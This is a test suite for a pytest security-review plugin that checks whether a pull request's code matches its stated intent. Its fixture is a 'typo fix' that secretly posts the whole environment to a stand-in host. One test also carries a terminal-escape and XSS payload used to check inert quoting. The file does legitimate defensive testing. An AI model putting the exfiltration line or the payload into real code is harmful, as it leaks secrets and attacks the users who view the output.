"""The intent audit through the plugin (pytester) in a real git repository, judged by scripted
models on a local OpenAI-compatible server: each verdict, the gate, a provider outage, no
model at all; and the pieces it is built from (the statement, the verdict tool, the rule)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pytest_secreview.audit.statement import TRUNCATED, Statement, commit_messages
from pytest_secreview.audit.verdict import Verdict, provider_of, validate_verdict
from pytest_secreview.core.decide import intent_decision
from pytest_secreview.rules.loader import bundled_rules_dir
from pytest_secreview.rules.parse import parse_rule
from tests.conftest import ReviewRepo
from tests.fake_providers import FakeServer, FakeServers, Reply, openai_completion
from tests.fake_providers import openai_tool_call as tool_call

INTENT_RULE = bundled_rules_dir() / "intent.md"
TITLE = "Fix typo in README"
EXFILTRATION = (
    "import os\n\nimport requests\n\nVERSION = '1.0'\n"
    "requests.post('https://telemetry.example.net/c', json=dict(os.environ), timeout=3)\n"
)


@pytest.fixture
def server() -> Iterator[FakeServer]:
    with FakeServers() as running:
        yield running.start()


def _typo_fix(pytester: pytest.Pytester, base: str, head: str) -> ReviewRepo:
    """A pull request titled :data:`TITLE` that fixes a typo in the README and changes
    ``app/__init__.py`` from ``base`` to ``head``."""
    repo = ReviewRepo(Path(pytester.path))
    repo.write("README.md", "# Service\n\nInstal it with pip.\n")
    repo.write("app/__init__.py", base)
    repo.commit("base")
    repo.branch("pr")
    repo.write("README.md", "# Service\n\nInstall it with pip.\n")
    repo.write("app/__init__.py", head)
    repo.commit(TITLE)
    return repo


@pytest.fixture
def typo_pr(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> ReviewRepo:
    """A pull request titled "Fix typo in README" that also posts the environment to a server;
    the Actions event carries the title and body."""
    repo = _typo_fix(pytester, "import os\n\nVERSION = '1.0'\n", EXFILTRATION)
    event = pytester.path.parent / "event.json"
    event.write_text(json.dumps({"pull_request": {
        "number": 7, "title": TITLE, "body": "Just a spelling fix. " * 200,
    }}))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    for name in ("GITHUB_TOKEN", "SECREVIEW_GITHUB_TOKEN", "SECREVIEW_MODEL"):
        monkeypatch.delenv(name, raising=False)
    return repo


def verdict(name: str, summary: str = "", **extra: Any) -> Reply:
    args = {"verdict": name, "summary": summary or f"The model says {name}.",
            "evidence": [{"path": "app/__init__.py", "line": 6, "category": "network",
                          "explanation": "posts os.environ to an outside host"}], **extra}
    return Reply(json=openai_completion(
        tool_calls=[tool_call("v1", "report_verdict", json.dumps(args))],
        finish_reason="tool_calls",
        usage={"prompt_tokens": 900, "completion_tokens": 60, "total_tokens": 960}))


def run(pytester: pytest.Pytester, server: FakeServer | None, *args: str,
        subprocess: bool = False) -> pytest.RunResult:
    report = pytester.path.parent / "report.json"
    model = ("--secreview-model", "openai:gpt-4.1", "--secreview-api-base", server.url) \
        if server is not None else ()
    runner = pytester.runpytest_subprocess if subprocess else pytester.runpytest
    return runner(
        "--secreview", "--base", "main", "-p", "no:cacheprovider",
        "--secreview-rules", str(INTENT_RULE), *model, "-rsw",
        "--json-report", f"--json-report-file={report}",
        "--secreview-artifacts", str(pytester.path.parent / "artifacts"), *args,
    )


def metadata(pytester: pytest.Pytester) -> dict[str, Any]:
    report = json.loads((pytester.path.parent / "report.json").read_text())
    (test,) = [t for t in report["tests"] if t["nodeid"].endswith("::intent")]
    data: dict[str, Any] = test["metadata"]["secreview"]
    return data


def summary_item(pytester: pytest.Pytester) -> dict[str, Any]:
    summary = json.loads(
        (pytester.path.parent / "artifacts" / "report" / "summary.json").read_text())
    (item,) = summary["items"]
    assert item["path"] == "(pull request)"
    return dict(item)


def summary_markdown(pytester: pytest.Pytester) -> str:
    return (pytester.path.parent / "artifacts" / "report" / "summary.md").read_text()


ICONS = {"LIE": "🛑", "SUSPICIOUS": "⚠️"}


def _evidence_keys(data: dict[str, Any]) -> set[tuple[str, str, str, int]]:
    return {(i["category"], i["signal"], i["path"], i["line"]) for i in data["items"]}


NETWORK = ("network", "HTTP client call", "app/__init__.py", 6)
ENV_READ = ("environment", "environment variable read", "app/__init__.py", 6)


def summary_json(pytester: pytest.Pytester) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(
        (pytester.path.parent / "artifacts" / "report" / "summary.json").read_text())
    return data


UNJUDGED_LINE = ("intent audit risk evidence (deterministic; not judged: no model is "
                 "configured, so this is no verdict and fails nothing)")
UNJUDGED_HEADING = "### Intent audit: risk evidence, not judged"


def test_without_a_model_the_intent_audit_makes_no_item_and_the_summary_says_so(
    pytester: pytest.Pytester, typo_pr: ReviewRepo
) -> None:
    # The verdict needs a model: with none configured the review is the deterministic one.
    result = run(pytester, None, "--secreview-unreviewed=fail")
    result.assert_outcomes()
    assert result.ret == pytest.ExitCode.OK
    assert "1 rule(s) that need a model made no item (intent)" in result.stdout.str()


def test_without_a_model_the_evidence_is_reported_with_no_verdict(
    pytester: pytest.Pytester, typo_pr: ReviewRepo
) -> None:
    # "Fix typo in README" that posts dict(os.environ) out: with no model nothing judges the
    # intent, yet the deterministic evidence is computed and shown, as evidence only.
    result = run(pytester, None, "--secreview-unreviewed=fail")
    result.assert_outcomes()  # no item: no pass, no fail, no skip
    assert result.ret == pytest.ExitCode.OK
    report = summary_json(pytester)
    assert report["items"] == [] and report["not_reviewed"] == []
    evidence = report["risk_evidence"]
    assert {NETWORK, ENV_READ} <= _evidence_keys(evidence)
    assert evidence["counts"]["network"] >= 1 and evidence["counts"]["environment"] >= 1
    section = result.stdout.str().split("= secreview =")[1]
    assert UNJUDGED_LINE in section
    assert "app/__init__.py:6 [network] HTTP client call: requests.post(" in section
    assert "intent verdict" not in section
    markdown = summary_markdown(pytester)
    assert UNJUDGED_HEADING in markdown
    assert "No model judged whether the change does what its title and description say" \
        in markdown
    assert "- `app/__init__.py:6` network · HTTP client call: `requests.post(" in markdown
    assert "**Judgment" not in markdown
    assert markdown.startswith("## 🟢 pytest-secreview: 0 findings")  # evidence is no verdict


def test_the_evidence_changes_no_outcome_of_a_run_with_the_bundled_pack(
    pytester: pytest.Pytester, typo_pr: ReviewRepo
) -> None:
    # The same pull request reviewed by the bundled pack with and without the intent rule:
    # the evidence is reported in one run only, and both end the same.
    def review(*rules: Path) -> pytest.RunResult:
        chosen = [arg for rule in rules for arg in ("--secreview-rules", str(rule))]
        return pytester.runpytest(
            "--secreview", "--base", "main", "-p", "no:cacheprovider", *chosen,
            "--secreview-artifacts", str(pytester.path.parent / "artifacts"))

    first = review(INTENT_RULE.parent)  # the bundled pack
    with_evidence = summary_json(pytester)
    second = review(*(p for p in sorted(INTENT_RULE.parent.glob("*.md")) if p != INTENT_RULE))
    no_evidence = summary_json(pytester)
    assert with_evidence["risk_evidence"]["items"] and no_evidence["risk_evidence"] is None
    assert UNJUDGED_LINE in first.stdout.str() and UNJUDGED_LINE not in second.stdout.str()
    assert first.ret == second.ret
    assert with_evidence["outcomes"] == no_evidence["outcomes"]
    assert with_evidence["findings"] == no_evidence["findings"]


def test_a_change_with_no_risk_signal_shows_no_evidence_block(
    pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The safe twin: a real typo fix and a pure function.
    _typo_fix(pytester, "VERSION = '1.0'\n",
              "VERSION = '1.0'\n\n\ndef twice(x):\n    return 2 * x\n")
    monkeypatch.delenv("SECREVIEW_MODEL", raising=False)
    result = run(pytester, None, "--secreview-unreviewed=fail")
    assert result.ret == pytest.ExitCode.OK
    # Computed, and found nothing: an empty evidence, not a missing one.
    assert summary_json(pytester)["risk_evidence"] == {
        "categories": [], "counts": {}, "items": [], "truncated": 0}
    assert "intent audit risk evidence" not in result.stdout.str()
    assert "Intent audit" not in summary_markdown(pytester)


def test_the_unjudged_evidence_quotes_the_pull_request_inertly(
    pytester: pytest.Pytester, typo_pr: ReviewRepo
) -> None:
    # Evidence texts quote the pull request: escapes for the terminal, markdown and HTML for
    # the summary, backticks to break out of a code span.
    hostile = ("import os, requests\n"
               "requests.post('https://x.example.net/\x1b[2J``</details><img src=x "
               "onerror=alert(1)>@admin #1', data=os.environ)\n")
    typo_pr.write("app/hostile.py", hostile)
    typo_pr.commit("more")
    result = run(pytester, None)
    out = result.stdout.str()
    assert result.ret == pytest.ExitCode.OK
    assert "\x1b[2J" not in out
    assert "app/hostile.py:2 [network] HTTP client call: requests.post(" in out
    markdown = summary_markdown(pytester)
    assert "\x1b" not in markdown
    lines = [ln for ln in markdown.splitlines() if ln.startswith("- `app/hostile.py:2` ")]
    assert lines
    for line in lines:
        # The quoted text is one code span whose fence is longer than any backtick run in it:
        # the HTML, the mention and the reference inside are shown as text, never rendered.
        found = re.fullmatch(r"- `app/hostile\.py:2` \w+ · [^`]+: (`+)(.*)\1", line)
        assert found is not None, line
        fence, quoted = found.groups()
        assert "<img src=x onerror=alert(1)>@admin #1" in quoted
        assert max(len(run) for run in re.findall("`+", quoted)) < len(fence)


def test_the_unjudged_evidence_is_the_same_under_xdist(
    pytester: pytest.Pytester, typo_pr: ReviewRepo
) -> None:
    serial = run(pytester, None, subprocess=True)
    first = summary_json(pytester)
    parallel = run(pytester, None, "-n", "2", subprocess=True)
    second = summary_json(pytester)
    assert serial.ret == parallel.ret == pytest.ExitCode.OK
    assert first["risk_evidence"]["items"] and second["risk_evidence"] == first["risk_evidence"]
    assert UNJUDGED_LINE in parallel.stdout.str()


@pytest.mark.parametrize("name", ["LIE", "SUSPICIOUS"])
def test_fix_typo_with_exfiltration_fails_on_lie_or_suspicious(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer, name: str
) -> None:
    server.queue(verdict(name, "Says typo; posts the whole environment to telemetry.example.net."))
    result = run(pytester, server)
    result.assert_outcomes(failed=1)
    out = result.stdout.str()
    assert f"intent verdict {name} from openai:gpt-4.1" in out
    assert "app/__init__.py:6 [network] posts os.environ to an outside host" in out
    assert "risk evidence (deterministic): " in out
    meta = metadata(pytester)
    (assessment,) = meta["assessments"]
    assert (assessment["provider"], assessment["model"], assessment["verdict"]) == (
        "openai", "openai:gpt-4.1", name)
    assert assessment["usage"]["input_tokens"] == 900 and assessment["error"] is None
    assert {NETWORK, ENV_READ} <= _evidence_keys(meta["risk_evidence"])
    item = summary_item(pytester)
    assert item["assessments"][0]["verdict"] == name and item["outcome"] == "failed"
    markdown = summary_markdown(pytester)
    evidence_at = markdown.index("**Risk evidence** (deterministic")
    judgment_at = markdown.index(f"**Judgment** by `openai:gpt-4.1`: {ICONS[name]} **{name}**")
    assert evidence_at < judgment_at  # the math first, the opinion apart
    # what the model was given: the title, the capped body, the commit message, the evidence
    sent = server.requests[0].json
    system, task = sent["messages"][0]["content"], sent["messages"][1]["content"]
    assert "report_verdict" in system and "Verdicts" in system
    assert f"Pull request title: {TITLE}" in task
    assert TRUNCATED in task  # the 4,200-character body was cut at 2,000
    assert f"--- commit 1 ---\n{TITLE}" in task
    assert "app/__init__.py:6 [network] HTTP client call: requests.post(" in task
    assert [t["function"]["name"] for t in sent["tools"]][-1] == "report_verdict"


def test_same_evidence_and_verdict_under_xdist(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    server._responder = lambda _request: verdict("LIE")
    serial = run(pytester, server, subprocess=True)
    serial.assert_outcomes(failed=1)
    first = summary_item(pytester)
    parallel = run(pytester, server, "-n", "2", subprocess=True)
    parallel.assert_outcomes(failed=1)
    second = summary_item(pytester)
    assert second["risk_evidence"] == first["risk_evidence"]
    assert [a["verdict"] for a in second["assessments"]] == ["LIE"]


SHIPPED_OUTCOMES = """
import json, pathlib

def pytest_runtest_logreport(report):
    shipped = getattr(report, "secreview_record", None)
    with open(pathlib.Path(__file__).parent / "shipped.jsonl", "a") as out:
        out.write(json.dumps([report.nodeid, report.when, report.outcome,
                              shipped["verdict"]["outcome"] if shipped else None]) + "\\n")
"""


@pytest.mark.parametrize(("name", "gate", "outcome"), [
    ("LIE", "suspicious", "failed"), ("SUSPICIOUS", "suspicious", "failed"),
    ("SUSPICIOUS", "lie", "passed"), ("MATCH", "suspicious", "passed")])
def test_the_verdict_the_item_ships_is_the_outcome_it_ends_with(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer, name: str,
    gate: str, outcome: str, tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """The intent audit is decided by ``core.decide`` like every item: the record it ships
    to the report (what crosses the worker boundary) carries the verdict under the gate, and
    the item ends as that verdict says."""
    # A plugin beside the checkout (not part of the change reviewed) records every report.
    plugin = tmp_path_factory.mktemp("hook") / "shipped_hook.py"
    plugin.write_text(SHIPPED_OUTCOMES)
    pytester.syspathinsert(plugin.parent)
    server.queue(verdict(name, evidence=[]) if name == "MATCH" else verdict(name))
    run(pytester, server, f"--secreview-intent-gate={gate}", "-p", "shipped_hook")
    reports = [json.loads(line) for line in
               (plugin.parent / "shipped.jsonl").read_text().splitlines()]
    intent = [report for report in reports if report[0].endswith("::intent")]
    (ended,) = [outcome for _, when, outcome, _ in intent if when == "call"]
    (shipped,) = [decided for *_, decided in intent if decided is not None]
    assert (ended, shipped) == (outcome, outcome)


def test_suspicious_only_warns_under_the_lie_gate(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    server.queue(verdict("SUSPICIOUS"))
    result = run(pytester, server, "--secreview-intent-gate=lie")
    result.assert_outcomes(passed=1, warnings=1)
    assert "SUSPICIOUS (not failed: --secreview-intent-gate=lie)" in result.stdout.str()


def test_suspicious_under_the_lie_gate_is_reported_under_filterwarnings_error(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    # A project whose configuration turns every warning into an error: the gate still
    # decides (a warning, not a failure), and the warning is still reported.
    server.queue(verdict("SUSPICIOUS"))
    result = run(pytester, server, "--secreview-intent-gate=lie", "-W", "error")
    result.assert_outcomes(passed=1, warnings=1)
    assert "SUSPICIOUS (not failed: --secreview-intent-gate=lie)" in result.stdout.str()


def test_match_passes(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    server.queue(verdict("MATCH", evidence=[]))
    result = run(pytester, server)
    result.assert_outcomes(passed=1)
    assert metadata(pytester)["verdict"] == "MATCH"
    # With a model the evidence is the item's, beside its verdict; none is reported unjudged.
    assert summary_json(pytester)["risk_evidence"] is None
    assert summary_item(pytester)["risk_evidence"]["items"]
    assert UNJUDGED_LINE not in result.stdout.str()
    assert UNJUDGED_HEADING not in summary_markdown(pytester)


def test_an_error_verdict_is_an_error_never_a_pass(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    server.queue(verdict("ERROR", evidence=[]))
    result = run(pytester, server)
    result.assert_outcomes(errors=1)
    assert "intent audit could not be completed: the model answered ERROR" in result.stdout.str()


def test_provider_outage_is_an_error_with_usage_or_a_skip_when_asked(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    refusal = Reply(400, {"error": {"message": "model gpt-4.1 does not exist"}})
    server.queue(refusal, refusal)
    result = run(pytester, server)
    result.assert_outcomes(errors=1)
    assert "does not exist" in result.stdout.str()
    (assessment,) = metadata(pytester)["assessments"]
    assert assessment["verdict"] == "ERROR" and "does not exist" in assessment["error"]
    assert assessment["usage"]["model_calls"] >= 1  # spent, even on failure
    assert metadata(pytester)["risk_evidence"]["items"]  # the evidence stands regardless
    skipped = run(pytester, server, "--secreview-on-error=skip")
    skipped.assert_outcomes(skipped=1)


def test_invalid_verdict_goes_back_to_the_model_which_corrects_it(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    server.queue(verdict("MAYBE"), verdict("LIE"))
    run(pytester, server).assert_outcomes(failed=1)
    retry = server.requests[1].json["messages"][-1]
    assert retry["role"] == "tool" and "report_verdict arguments are invalid" in retry["content"]


def test_prompt_based_mode_ends_with_report_verdict(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer
) -> None:
    text_call = ('<tool_call>{"name": "report_verdict", "args": {"verdict": "LIE", '
                 '"summary": "typo title, exfiltration code", "evidence": []}}</tool_call>')
    server.queue(Reply(json=openai_completion("I think this is fine.")),
                 Reply(json=openai_completion(text_call)))
    run(pytester, server).assert_outcomes(failed=1)
    system = server.requests[1].json["messages"][0]["content"]
    assert '<tool_call>{"name": "report_verdict", "args": {"verdict": "MATCH"' in system
    assert metadata(pytester)["mode"] == "prompt"


# -- pieces ---------------------------------------------------------------------------------


def test_the_bundled_intent_rule_is_pull_request_scoped_with_metadata() -> None:
    rule = parse_rule(INTENT_RULE.read_bytes(), "rules/intent.md")
    assert (rule.id, rule.scope, rule.cwe) == ("intent", "pull_request", "CWE-506")
    assert rule.needs_model and "report_verdict" in rule.instructions
    for name in Verdict:
        assert f"`{name.value}`" in rule.instructions


def test_commit_messages_are_read_newest_first_and_capped(typo_pr: ReviewRepo) -> None:
    typo_pr.write("x.txt", "x\n")
    typo_pr.commit("second\n\n" + "long body " * 300)
    base = typo_pr.git("rev-parse", "main").strip()
    head = typo_pr.git("rev-parse", "HEAD").strip()
    messages, omitted = commit_messages(typo_pr.path, base, head)
    assert [m.splitlines()[0] for m in messages] == ["second", TITLE] and omitted == 0
    statement = Statement.build("t", "", messages)
    assert statement.commits[0].endswith(TRUNCATED) and len(statement.commits[0]) == 2000 + len(
        TRUNCATED)
    assert statement.commits[1] == TITLE


@pytest.mark.parametrize(
    ("verdict_name", "gate", "decision"),
    [("MATCH", "suspicious", "pass"), ("LIE", "lie", "fail"), ("LIE", "suspicious", "fail"),
     ("SUSPICIOUS", "suspicious", "fail"), ("SUSPICIOUS", "lie", "warn"),
     ("ERROR", "lie", "error"), ("ERROR", "suspicious", "error")],
)
def test_decide(verdict_name: str, gate: Any, decision: str) -> None:
    assert intent_decision(Verdict(verdict_name).value, gate) == decision


def test_verdict_arguments_are_validated_and_cleaned() -> None:
    report = validate_verdict({"verdict": "lie", "summary": "x" * 3000, "evidence": []})
    assert report.verdict is Verdict.LIE and report.summary.endswith("[TRUNCATED]")
    with pytest.raises(ValueError, match="verdict"):
        validate_verdict({"verdict": "PROBABLY", "summary": "s", "evidence": []})
    with pytest.raises(ValueError, match="score: Extra inputs"):
        validate_verdict({"verdict": "MATCH", "summary": "s", "evidence": [], "score": 1})


@pytest.mark.parametrize(("model", "provider"), [
    ("openai:gpt-4.1", "openai"), ("anthropic:claude", "anthropic"),
    ("google/gemini-2.5-pro", "vertex"), ("custom-model", "custom"),
])
def test_provider_of(model: str, provider: str) -> None:
    assert provider_of(model) == provider


@pytest.mark.parametrize(("consensus", "outcome", "combined"), [
    ("any", "failed", "LIE"), ("all", "passed", "MATCH")])
def test_several_models_judge_the_change_and_the_consensus_decides(
    pytester: pytest.Pytester, typo_pr: ReviewRepo, server: FakeServer, consensus: str,
    outcome: str, combined: str,
) -> None:
    replies = {"model-a": verdict("LIE", "It posts the environment."),
               "model-b": verdict("MATCH", "A spelling fix.")}
    server._responder = lambda request: replies[request.json["model"]]
    result = run(pytester, None, "--secreview-model", "openai:model-a", "--secreview-model",
                 "openai:model-b", "--secreview-api-base", server.url,
                 f"--secreview-consensus={consensus}")
    result.assert_outcomes(**{outcome: 1})
    meta = metadata(pytester)
    assert meta["verdict"] == combined
    judged = {(a["model"], a["verdict"]) for a in meta["assessments"]}
    assert judged == {("openai:model-a", "LIE"), ("openai:model-b", "MATCH")}, "each kept"
    assert all(a["usage"].get("model_calls") == 1 for a in meta["assessments"])
